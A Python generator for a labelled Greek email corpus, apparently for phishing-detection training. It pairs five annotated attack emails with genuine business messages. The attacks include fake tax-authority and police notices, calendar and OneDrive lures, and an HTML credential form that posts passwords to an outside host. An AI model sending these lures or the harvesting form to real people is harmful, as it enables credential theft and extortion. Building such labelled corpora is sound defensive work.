"""Greek messages: 5 attacks, 5 business."""
import datetime as dt

import attach as A
import company as C
import ids
import infra as I
import mailkit as K
from common import Body, Msg, S, att, b64url, fmt_iban, h, html_att, pdf_att

ATTACKS = []
BUSINESS = []

UTC = dt.timezone.utc

# ================================================================ ATTACKS
_AADE = ('https://www1.aade.gov.gr.mydata-elegxos.com/saadeapps2/bookkeeper-web/diff?afm=%s&r=%s'
         % (C.EG['gr_afm'], h('el-a32', 18)))
ATTACKS.append(Msg(
    'aade-mydata-discrepancy-phishing', '2026-10-20 11:42:30',
    I.sendgrid('em5521.aade-enimerosi.gr.com', ('149.72.233.17', 'o1.ptr5521.aade-enimerosi.gr.com')),
    ('ΑΑΔΕ – myDATA', 'enimerosi@aade-enimerosi.gr.com'), [S('eleni.nikolaou')],
    'ΑΑΔΕ: Αποκλίσεις διαβίβασης παραστατικών myDATA – Γ΄ τρίμηνο 2026',
    Body('''Αξιότιμε/η κύριε/κυρία,

Σας ενημερώνουμε ότι κατά τη διασταύρωση των στοιχείων της ψηφιακής πλατφόρμας myDATA για την επιχείρηση EXAMPLE GROUP HELLAS Μ.Α.Ε. (ΑΦΜ %s) εντοπίστηκαν αποκλίσεις μεταξύ των διαβιβασθέντων παραστατικών εσόδων και των χαρακτηρισμών εξόδων των αντισυμβαλλομένων σε 14 παραστατικά του Γ΄ τριμήνου 2026.

Παρακαλούμε να προβείτε σε έλεγχο και διόρθωση εντός πέντε (5) εργάσιμων ημερών, προκειμένου να αποφευχθεί η επιβολή προστίμου σύμφωνα με τις διατάξεις του Κώδικα Φορολογικής Διαδικασίας.

Για να δείτε τη λίστα των παραστατικών, συνδεθείτε με τους προσωπικούς σας κωδικούς TAXISnet:

[[!Προβολή αποκλίσεων|%s]]

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων
Γενική Διεύθυνση Ψηφιακού Μετασχηματισμού

Το μήνυμα αυτό στάλθηκε αυτόματα. Παρακαλούμε μην απαντάτε.
''' % (C.EG['gr_afm'], _AADE), charset='utf-8', cte='quoted-printable',
        brand=('ΑΑΔΕ – Ανεξάρτητη Αρχή Δημοσίων Εσόδων', '#003476')),
    what='Fake Greek tax authority (AADE) notice about myDATA discrepancies with a TAXISnet login link.',
    why='Sent via SendGrid from aade-enimerosi.gr.com; link host is a sub-domain trick (www1.aade.gov.gr.mydata-elegxos.com); '
        'AADE does not e-mail such notices with login links; fine threat and 5-day deadline. The accountant\'s genuine '
        'myDATA e-mail: business 32.',
    pair='accountant-mydata-genuine', tech='Tax-authority impersonation (AADE/myDATA, e-invoicing), credential phishing via SendGrid'))

_START = dt.datetime(2026, 11, 19, 8, 0, tzinfo=UTC)
_TEAMS = ('https://teams-live.meeting-join.net/l/meetup-join/19%%3ameeting_%s%%40thread.v2/0?context=%s'
          % (h('el-a33', 40, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'),
             b64url('eleni.nikolaou@examplegroup.eu')))
_ICS = A.ics('040000008200E00074C5B7101A82E008000000%s' % h('el-a33uid', 32).upper(),
             ('Τμήμα Ανθρώπινου Δυναμικού', 'hr@examplegroup-hellas.gr'),
             ('Eleni Nikolaou', 'eleni.nikolaou@examplegroup.eu'), _START, _START + dt.timedelta(minutes=30),
             'Ενημέρωση για την αναπροσαρμογή αποδοχών 2027',
             'Συμμετοχή στη σύσκεψη Microsoft Teams: %s\nΑναγνωριστικό σύσκεψης: 342 118 774 905\nΚωδικός: Xr7Tq2' % _TEAMS,
             'Σύσκεψη του Microsoft Teams', dt.datetime(2026, 11, 16, 14, 4, 51, tzinfo=UTC))
ATTACKS.append(Msg(
    'calendar-invite-salary-teams-lure', '2026-11-16 15:05:19',
    I.own_postfix('mail.examplegroup-hellas.gr', '164.92.183.41', client='outlook16', sub_ip='77.247.181.165',
                  sub_rdns=None, rdns='', ua_kw={'lang': 'el'}),
    ('Ανθρώπινο Δυναμικό – Example Group', 'hr@examplegroup-hellas.gr'), [S('eleni.nikolaou')],
    'Πρόσκληση: Ενημέρωση για την αναπροσαρμογή αποδοχών 2027 @ Πέμ 19 Νοε 2026 10:00 - 10:30 (EET)',
    Body('''Αγαπητή κυρία Νικολάου,

Στο πλαίσιο της ετήσιας αναθεώρησης αποδοχών σας προσκαλούμε σε σύντομη ατομική ενημέρωση μέσω Microsoft Teams για την αναπροσαρμογή των αποδοχών σας για το 2027.

Πριν από τη σύσκεψη παρακαλούμε να συνδεθείτε με τον εταιρικό σας λογαριασμό Microsoft 365, ώστε να έχετε πρόσβαση στο προσωπικό σας έγγραφο αποδοχών:

[[Συμμετοχή στη σύσκεψη Microsoft Teams|%s]]

Αναγνωριστικό σύσκεψης: 342 118 774 905
Κωδικός πρόσβασης: Xr7Tq2

Τμήμα Ανθρώπινου Δυναμικού
Example Group
''' % _TEAMS, charset='utf-8', cte='base64', html=True,
        atts=[K.Att('invite.ics', 'text/calendar', _ICS, charset='utf-8', params='; method=REQUEST')]),
    what='Calendar invitation (ICS) for a "salary adjustment" Teams meeting whose join link leads to a fake M365 login.',
    why='Look-alike domain examplegroup-hellas.gr on a DigitalOcean droplet (no rDNS), submitted via a Tor/VPN exit; join '
        'link on meeting-join.net instead of teams.microsoft.com with the victim\'s address; HR never schedules salary talks this way.',
    tech='Calendar-invite (ICS) phishing, HR lure'))

ATTACKS.append(Msg(
    'compromised-customer-onedrive-lure', '2026-12-08 21:17:40',
    I.otenet(client='roundcube', webmail_ip='102.90.115.46', ua_kw={'ver': '1.6.9'}),
    ('Φροντιστήρια Πλάτων', 'platon.frontistirio@otenet.gr'), [S('giorgos.papadopoulos')],
    'Παραγγελία – επιβεβαίωση εγγράφων',
    Body('''Καλησπέρα σας,

σας στέλνουμε τα έγγραφα της παραγγελίας και το αποδεικτικό πληρωμής μέσω OneDrive. Παρακαλούμε ελέγξτε τα και επιβεβαιώστε.

[[Προβολή εγγράφων (OneDrive)|https://1drv-share.documents-view.net/s/Platon_Paraggelia_2026.pdf?id=%s]]

Ευχαριστούμε,
Φροντιστήρια Πλάτων
''' % h('el-a34', 22, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'),
        charset='utf-8', cte='quoted-printable', html=True),
    what='Generic "order documents on OneDrive" lure from a small customer\'s genuinely compromised OTEnet mailbox.',
    why='Real customer address, but sent at night through OTEnet webmail from a foreign IP (X-Originating-IP) instead of '
        'the customer\'s Outlook; vague text unlike the customer\'s usual mails (business 34); link to a fake OneDrive host.',
    pair='customer-inquiry-otenet', tech='Compromised customer mailbox (consumer ISP webmail), credential phishing'))

_POL = 'dioxi.ilektronikou.egklimatos@gmail.com'
ATTACKS.append(Msg(
    'fake-police-summons-extortion', '2026-11-02 13:50:26',
    I.exim_cpanel('cp14.greekhosting-server.gr', '185.138.42.117', '41.216.188.32', client='outlook16',
                  ua_kw={'lang': 'el'}, zone='EET'),
    ('Ελληνική Αστυνομία', 'info@hotel-aigaio-naxos.gr'), [S('giorgos.papadopoulos')],
    'Κλήση προς παροχή εξηγήσεων – Αρ. Πρωτ. 7012/4/1187-β΄',
    Body('''Κύριε Παπαδόπουλε,

Κατόπιν εισαγγελικής παραγγελίας, η Διεύθυνση Δίωξης Ηλεκτρονικού Εγκλήματος σας αποστέλλει συνημμένα κλήση προς παροχή εξηγήσεων στο πλαίσιο προκαταρκτικής εξέτασης για αδικήματα που τελέστηκαν μέσω διαδικτύου από συσκευή συνδεδεμένη με το όνομά σας.

Οφείλετε να αποστείλετε τις γραπτές εξηγήσεις σας εντός 72 ωρών, απαντώντας αποκλειστικά στη διεύθυνση %s. Σε περίπτωση μη απάντησης η δικογραφία θα διαβιβαστεί στον αρμόδιο Εισαγγελέα, θα εκδοθεί ένταλμα σύλληψης και το όνομά σας θα καταχωρηθεί στο μητρώο δραστών.

Συνημμένο: Κλήση (PDF)

Ο Διευθυντής
Διεύθυνση Δίωξης Ηλεκτρονικού Εγκλήματος
''' % _POL, charset='iso-8859-7', cte='quoted-printable', html=True,
        atts=[pdf_att('Klisi_DDHE_7012-4-1187.pdf', [
            ('ΕΛΛΗΝΙΚΗ ΑΣΤΥΝΟΜΙΑ', 15, True), 'ΑΡΧΗΓΕΙΟ ΕΛΛΗΝΙΚΗΣ ΑΣΤΥΝΟΜΙΑΣ',
            'ΔΙΕΥΘΥΝΣΗ ΔΙΩΞΗΣ ΗΛΕΚΤΡΟΝΙΚΟΥ ΕΓΚΛΗΜΑΤΟΣ', '', 'ΑΡ. ΠΡΩΤ. 7012/4/1187-Β', '',
            ('ΚΛΗΣΗ ΠΡΟΣ ΠΑΡΟΧΗ ΕΞΗΓΗΣΕΩΝ', 13, True), '',
            'ΠΡΟΣ: ΠΑΠΑΔΟΠΟΥΛΟ ΓΕΩΡΓΙΟ', '',
            'ΚΑΤΟΠΙΝ ΕΙΣΑΓΓΕΛΙΚΗΣ ΠΑΡΑΓΓΕΛΙΑΣ ΣΑΣ ΚΑΛΟΥΜΕ ΝΑ ΠΑΡΑΣΧΕΤΕ ΓΡΑΠΤΕΣ ΕΞΗΓΗΣΕΙΣ',
            'ΕΝΤΟΣ 72 ΩΡΩΝ ΓΙΑ ΑΔΙΚΗΜΑΤΑ ΠΟΥ ΤΕΛΕΣΤΗΚΑΝ ΜΕΣΩ ΔΙΑΔΙΚΤΥΟΥ.', '',
            'ΣΕ ΠΕΡΙΠΤΩΣΗ ΜΗ ΑΠΑΝΤΗΣΗΣ ΘΑ ΕΚΔΟΘΕΙ ΕΝΤΑΛΜΑ ΣΥΛΛΗΨΗΣ.', '',
            'ΑΠΑΝΤΗΣΗ ΜΟΝΟ ΣΤΗ ΔΙΕΥΘΥΝΣΗ: ' + _POL, '', 'Ο ΔΙΕΥΘΥΝΤΗΣ'],
            title='KLISI', producer='Microsoft: Print To PDF', date="D:20261102125512+02'00'")]),
    reply_to=('Δ.Δ.Η.Ε.', _POL),
    what='Fake police "summons" (cyber-crime unit) threatening arrest within 72 hours, replies to a Gmail address.',
    why='Police never summon by e-mail from a hotel\'s mailbox with a Gmail reply address; compromised cPanel host used '
        'from a foreign IP; intimidation leading to extortion ("fine" to close the case).',
    tech='Fake authority / law-enforcement extortion, compromised hosting mailbox, Reply-To to Gmail'))

_VM = '''<!DOCTYPE html>
<html lang="el"><head><meta charset="utf-8"><title>Φωνητικό μήνυμα</title>
<style>body{font-family:"Segoe UI",Arial,sans-serif;background:#f5f5f5;margin:0}
.hd{background:#5b5fc7;color:#fff;padding:14px 22px;font-size:17px}
.c{width:420px;margin:50px auto;background:#fff;padding:30px;border-radius:4px;box-shadow:0 1px 4px rgba(0,0,0,.2)}
.pl{background:#eee;border-radius:20px;height:36px;margin:14px 0;line-height:36px;padding-left:16px;color:#555}
input{width:100%%;padding:8px;margin:6px 0;border:1px solid #aaa}button{background:#5b5fc7;color:#fff;border:0;padding:9px 24px}</style></head>
<body><div class="hd">Microsoft Teams &middot; Φωνητικό ταχυδρομείο</div>
<div class="c"><b>+30 210 6812447</b><div class="pl">&#9654; 0:00 / 0:47</div>
<p>Για να ακούσετε το μήνυμα, επιβεβαιώστε τον λογαριασμό σας.</p>
<form method="post" action="https://voicecloud-teams.net/vm/auth.php">
<input type="email" name="u" value="giorgos.papadopoulos@example.com">
<input type="password" name="p" placeholder="Κωδικός πρόσβασης">
<input type="hidden" name="id" value="%s"><button type="submit">Αναπαραγωγή</button></form></div></body></html>
''' % h('el-a36', 16)
ATTACKS.append(Msg(
    'voicemail-html-attachment', '2026-10-29 08:27:13',
    I.brevo(ip='77.32.148.58', rdns='relay58.brevo.com'),
    ('Φωνητικό ταχυδρομείο Teams', 'voicemail@teams-voicecloud.com'), [S('giorgos.papadopoulos')],
    'Νέο φωνητικό μήνυμα από +30 210 6812447 (0:47)',
    Body('''Έχετε νέο φωνητικό μήνυμα

Από: +30 210 6812447
Διάρκεια: 0:47
Ημερομηνία: Πέμπτη, 29 Οκτωβρίου 2026, 09:26

Για να ακούσετε το μήνυμα, ανοίξτε το συνημμένο αρχείο και συνδεθείτε με τον εταιρικό σας λογαριασμό.

Microsoft Teams
''', charset='utf-8', cte='quoted-printable', brand=('Microsoft Teams', '#5b5fc7'),
        atts=[html_att('VM_+302106812447_0047.htm', _VM)]),
    what='Fake voicemail notification with an .htm "player" that is a credential form.',
    why='External bulk ESP (Brevo) and look-alike domain; the company\'s real voicemails come from its 3CX PBX via the '
        'internal relay with a WAV file (business 36); the attachment posts credentials to voicecloud-teams.net.',
    pair='pbx-voicemail-wav', tech='Voicemail lure, HTML attachment credential phishing via Brevo'))

# ================================================================ BUSINESS
BUSINESS.append(Msg(
    'accountant-mydata-genuine', '2026-11-06 11:30:41',
    I.gmail(host='ej1', last=52),
    ('Νίκος Καραγιάννης', 'n.karagiannis@karagiannis-logistes.gr'), [S('eleni.nikolaou')],
    'myDATA Οκτωβρίου: ολοκληρώθηκε η διαβίβαση – 3 εκκρεμότητες',
    Body('''Καλημέρα Ελένη,

ολοκληρώσαμε τη διαβίβαση όλων των παραστατικών Οκτωβρίου στο myDATA (142 παραστατικά εσόδων, 87 εξόδων). Από τη συμφωνία με τα στοιχεία των αντισυμβαλλομένων προέκυψαν 3 εκκρεμότητες, τις οποίες θα βρεις στο συνημμένο αρχείο:
- 2 τιμολόγια της Hellas Tech Parts που δεν έχουν διαβιβαστεί ακόμη από τον εκδότη,
- 1 πιστωτικό προς τα Φροντιστήρια Πλάτων με λάθος χαρακτηρισμό, που το διορθώνουμε εμείς.

Αν μπορείς, επικοινώνησε με την Hellas Tech Parts για τα δύο τιμολόγια. Τη δήλωση ΦΠΑ Οκτωβρίου θα την υποβάλουμε κανονικά έως τις 30/11.

Υπενθύμιση: η ΑΑΔΕ δεν στέλνει ειδοποιήσεις για αποκλίσεις με συνδέσμους σύνδεσης. Ό,τι έρχεται έτσι, προώθησέ το σε μένα πριν κάνεις οτιδήποτε.

Φιλικά,
Νίκος

--
Νίκος Καραγιάννης
Λογιστής – Φοροτεχνικός Α΄ Τάξης
Λογιστικό Γραφείο Καραγιάννη
Λεωφ. Αλεξάνδρας 112, 114 71 Αθήνα · 210 64 55 302
''', charset='utf-8', cte='quoted-printable', html=True,
        atts=[att('myDATA_Okt2026_ekkremotites.xlsx',
                  'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
                  A.xlsx([['Εκκρεμότητες myDATA – Οκτώβριος 2026', '', '', '', ''],
                          ['Αντισυμβαλλόμενος', 'ΑΦΜ', 'Παραστατικό', 'Ποσό (€)', 'Ενέργεια'],
                          ['Hellas Tech Parts Α.Ε.', C.HELLAS_TECH['afm'], 'ΤΠ-Α 2026/0741', 1240.0, 'Αναμονή διαβίβασης από εκδότη'],
                          ['Hellas Tech Parts Α.Ε.', C.HELLAS_TECH['afm'], 'ΤΠ-Α 2026/0752', 372.0, 'Αναμονή διαβίβασης από εκδότη'],
                          ['Φροντιστήρια Πλάτων', '', 'ΠΤ 2026/0019', -186.0, 'Διόρθωση χαρακτηρισμού (λογιστήριο)']],
                         sheet='Οκτώβριος', creator='Νίκος Καραγιάννης', dt=(2026, 11, 6, 11, 20, 0)))]),
    what='Genuine e-mail from the external accountant about myDATA transmissions, with an XLSX of open items.',
    why='Accountant\'s own domain on Google Workspace, concrete figures, XLSX data only, warns about fake AADE e-mails.',
    pair='aade-mydata-discrepancy-phishing'))

BUSINESS.append(Msg(
    'supplier-invoice-greek', '2026-11-11 12:52:07',
    C.HTP_PLESK,
    ('Hellas Tech Parts – Λογιστήριο', 'logistirio@hellastechparts.gr'), [S('eleni.nikolaou')],
    'Τιμολόγιο Πώλησης ΤΠ-Α 2026/0784 – Example Group Hellas',
    Body('''Αγαπητοί συνεργάτες,

σας αποστέλλουμε συνημμένο το Τιμολόγιο Πώλησης ΤΠ-Α 2026/0784 της 11/11/2026 για ανταλλακτικά και εργασίες επισκευής (εντολή EG-GR-2026-112).

Σύνολο: 2.976,00 € (καθαρή αξία 2.400,00 € + ΦΠΑ 24%% 576,00 €)
Προθεσμία πληρωμής: 30 ημέρες
Τράπεζα Πειραιώς: %s

Το παραστατικό έχει διαβιβαστεί στο myDATA (ΜΑΡΚ 400001947731285).

Με εκτίμηση,
Κώστας Δημητρίου
Hellas Tech Parts Α.Ε.
Λεωφ. Αθηνών 124, 104 42 Αθήνα
ΑΦΜ %s – ΔΟΥ ΦΑΕ Αθηνών
''' % (fmt_iban(C.HELLAS_TECH['iban']), C.HELLAS_TECH['afm']), charset='windows-1253', cte='quoted-printable', html=True,
        atts=[pdf_att('TPA_2026_0784.pdf', [
            ('HELLAS TECH PARTS Α.Ε.', 15, True), 'ΛΕΩΦ. ΑΘΗΝΩΝ 124, 104 42 ΑΘΗΝΑ - ΑΦΜ ' + C.HELLAS_TECH['afm'] + ' - ΔΟΥ ΦΑΕ ΑΘΗΝΩΝ', '',
            ('ΤΙΜΟΛΟΓΙΟ ΠΩΛΗΣΗΣ ΤΠ-Α 2026/0784', 13, True), 'ΗΜΕΡΟΜΗΝΙΑ: 11/11/2026   ΜΑΡΚ: 400001947731285', '',
            'ΠΕΛΑΤΗΣ: EXAMPLE GROUP HELLAS Μ.Α.Ε. - ΑΦΜ ' + C.EG['gr_afm'], '',
            '1  ΜΠΑΤΑΡΙΕΣ 3 ΚΥΨΕΛΩΝ 42WH (20 ΤΕΜ.)           1.100,00',
            '2  ΠΛΗΚΤΡΟΛΟΓΙΑ ΕΛΛΗΝΙΚΗΣ ΔΙΑΤΑΞΗΣ (15 ΤΕΜ.)      675,00',
            '3  ΕΡΓΑΣΙΑ ΑΝΤΙΚΑΤΑΣΤΑΣΗΣ (25 ΩΡΕΣ)               625,00', '',
            'ΚΑΘΑΡΗ ΑΞΙΑ 2.400,00   ΦΠΑ 24% 576,00', ('ΣΥΝΟΛΟ 2.976,00 EUR', 11, True), '',
            'ΠΛΗΡΩΜΗ: ΤΡΑΠΕΖΑ ΠΕΙΡΑΙΩΣ ' + fmt_iban(C.HELLAS_TECH['iban'])],
            title='TPA 2026/0784', creator='SoftOne ERP', producer='SoftOne Report Writer', date="D:20261111124410+02'00'")]),
    cc=[S('giorgos.papadopoulos')],
    what='Genuine supplier invoice in Greek (windows-1253) with PDF and myDATA MARK.',
    why='Supplier\'s own domain and Plesk server via Outlook, known Piraeus account, myDATA reference; no links.'))

BUSINESS.append(Msg(
    'customer-inquiry-otenet', '2026-10-13 16:40:12',
    I.otenet(client='outlook16', ua_kw={'lang': 'el'}),
    ('Φροντιστήρια Πλάτων', 'platon.frontistirio@otenet.gr'), [S('giorgos.papadopoulos')],
    'Ερώτηση για επέκταση μίσθωσης 12 laptop',
    Body('''Καλησπέρα κύριε Παπαδόπουλε,

η σύμβαση μίσθωσης για τα 12 laptop των αιθουσών μας λήγει τον Ιανουάριο. Θα θέλαμε να την επεκτείνουμε για έναν ακόμη χρόνο και, αν γίνεται, να αντικαταστήσουμε 3 μηχανήματα που έχουν πρόβλημα με την μπαταρία (οι σειριακοί αριθμοί είναι στο τέλος του μηνύματος).

Μπορείτε να μας στείλετε προσφορά; Θα προτιμούσαμε την ίδια μηνιαία χρέωση, αν είναι δυνατόν.

Είμαι στο φροντιστήριο καθημερινά μετά τις 15:00, τηλ. 210 68 12 447.

Με εκτίμηση,
Μαρία Αντωνίου
Φροντιστήρια Πλάτων

Σειριακοί αριθμοί: 5CG1234XYZ, 5CG1234XZA, 5CG1234XZD
''', charset='iso-8859-7', cte='quoted-printable', html=True),
    what='Genuine lease-extension inquiry from a small customer on OTEnet (Outlook desktop).',
    why='Customer\'s usual ISP mailbox and client (Outlook via smtp-out.otenet.gr from a Greek DSL line), specific '
        'serial numbers and contract details; no links.',
    pair='compromised-customer-onedrive-lure'))

BUSINESS.append(Msg(
    'office-holiday-notice-internal', '2026-10-23 11:10:44',
    I.internal(oip='10.50.30.14', lang='el-GR', acc='el-GR, en-US'),
    S('giorgos.papadopoulos'), [('Γραφείο Αθήνας', 'athens-office@example.com')],
    'Αργία 28ης Οκτωβρίου – κλειστό το γραφείο / παραλαβές',
    Body('''Καλημέρα σε όλους,

υπενθυμίζω ότι την Τετάρτη 28 Οκτωβρίου, εθνική επέτειο, το γραφείο θα παραμείνει κλειστό. Οι παραλαβές και αποστολές της Τρίτης 27/10 θα ολοκληρωθούν έως τις 14:00· η Hellas Tech Parts έχει ήδη ενημερωθεί.

Όσοι έχετε βάρδια υποστήριξης πελατών, δηλώστε διαθεσιμότητα στο κοινό ημερολόγιο έως τη Δευτέρα.

Καλή συνέχεια,
Γιώργος Παπαδόπουλος
Office Manager - Example Group Hellas
''', charset='iso-8859-7', cte='quoted-printable', html=True),
    rcpt='eleni.nikolaou@examplegroup.eu', zone='EET',
    what='Genuine internal notice from the Athens office manager about the 28 October public holiday.',
    why='Internal Exchange/mail-int01 path, routine content, no links or attachments.'))

BUSINESS.append(Msg(
    'pbx-voicemail-wav', '2026-10-22 15:44:02',
    I.internal_app('pbx-ath01.corp.example.com', '10.40.0.10', '3CX Phone System'),
    ('3CX Phone System', 'pbx-athens@example.com'), [S('giorgos.papadopoulos')],
    'Νέο φωνητικό μήνυμα από 2106812447 (Φροντιστήρια Πλάτων)',
    Body('''Γεια σας Giorgos Papadopoulos,

Έχετε νέο φωνητικό μήνυμα στο εσωτερικό 214.

Από: 2106812447 (Φροντιστήρια Πλάτων)
Διάρκεια: 00:00:38
Ημερομηνία: 22/10/2026 16:43

Το μήνυμα επισυνάπτεται σε μορφή WAV. Μπορείτε επίσης να το ακούσετε από την εφαρμογή 3CX ή καλώντας το *999.

3CX Phone System
''', charset='utf-8', cte='base64', html=True,
        atts=[att('vmail_2106812447_20261022164302.wav', 'audio/wav', A.wav(2.5, seed='el-b36'))]),
    zone='EET',
    what='Genuine voicemail notification from the office\'s own 3CX PBX with the recording as WAV.',
    why='Internal appliance relayed by mail-int01, audio attachment (no HTML or login), caller is a known customer.',
    pair='voicemail-html-attachment'))
